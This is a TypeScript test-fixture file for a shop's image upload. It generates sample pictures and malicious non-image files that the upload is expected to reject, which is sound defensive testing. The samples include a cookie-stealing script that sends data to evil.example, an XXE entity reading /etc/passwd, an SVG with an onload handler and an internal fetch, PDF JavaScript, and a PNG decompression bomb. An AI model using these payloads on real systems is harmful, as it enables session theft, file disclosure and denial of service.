import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** A picture of one colour. */
export const plain = (width = 60, height = 40) =>
  sharp({ create: { width, height, channels: 3, background: '#b4232c' } })

/** A picture that hardly compresses, the same at every call. */
export function noise(width: number, height: number) {
  const pixels = Buffer.alloc(width * height * 3)
  let state = 1
  for (let at = 0; at < pixels.length; at++) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    pixels[at] = state >>> 24
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } })
}

/** Content that an attacker hides in a file; the stored pictures must not contain any of it. */
export const hidden = {
  script: '<script>fetch("//evil.example?"+document.cookie)</script>',
  secret: 'SECRET-OF-THE-SENDER',
}

const text = (content: string) => Buffer.from(content, 'latin1')
export const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)">${hidden.script}<image href="http://127.0.0.1:1/x"/></svg>`

/** Files that the shop refuses as pictures, with any names. */
export const notPictures: Readonly<Record<string, () => Buffer | Promise<Buffer>>> = {
  'an SVG': () => text(svg),
  'an SVG after an XML header': () =>
    text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`),
  'HTML named .png': () => text(`<!doctype html>${hidden.script}`),
  nothing: () => Buffer.alloc(0),
  'only a PNG header': () => Buffer.from('89504e470d0a1a0a', 'hex'),
  'half a JPEG': async () => (await noise(300, 300).jpeg().toBuffer()).subarray(0, 9000),
  'a ZIP': () => text(`PK\u0003\u0004${hidden.secret}`),
  'a PDF': () => text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  'a TIFF': () => plain().tiff().toBuffer(),
  'a PNM': () => text('P3 1 1 255 255 0 0'),
  'random bytes after a GIF header': () => text(`GIF89a${'x'.repeat(500)}`),
}

/** A chunk of a PNG. */
export function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const frame = Buffer.alloc(8 + body.length)
  frame.writeUInt32BE(data.length, 0)
  body.copy(frame, 4)
  frame.writeUInt32BE(crc32(body), 4 + body.length)
  return frame
}

/** A PNG of one colour with a declared size; its pixels, 100 MB at most, compress to almost nothing. */
export function pngOf(width: number, height: number, bytes = Math.ceil(width / 8 + 1) * height): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = 1
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(Math.min(bytes, 100_000_000)), { level: 6 })),
    chunk('IEND', Buffer.alloc(0)),
  ])
}
